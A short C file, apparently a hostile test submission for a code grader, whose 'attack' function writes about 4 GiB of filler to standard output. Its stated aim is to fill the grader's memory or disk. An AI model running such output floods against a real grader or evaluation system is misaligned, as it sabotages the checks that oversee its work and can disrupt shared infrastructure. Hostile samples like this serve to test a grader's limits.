/* prints_gigabytes.c - write gigabytes to stdout, to fill the grader's memory or its disk. */
#define _GNU_SOURCE
#include <string.h>
#include <unistd.h>

static void attack(void)
{
    static char chunk[1 << 20];
    memset(chunk, 'x', sizeof chunk);
    chunk[sizeof chunk - 1] = '\n';
    for (int i = 0; i < 4096; i++)
        if (write(STDOUT_FILENO, chunk, sizeof chunk) == -1)
            break;
}
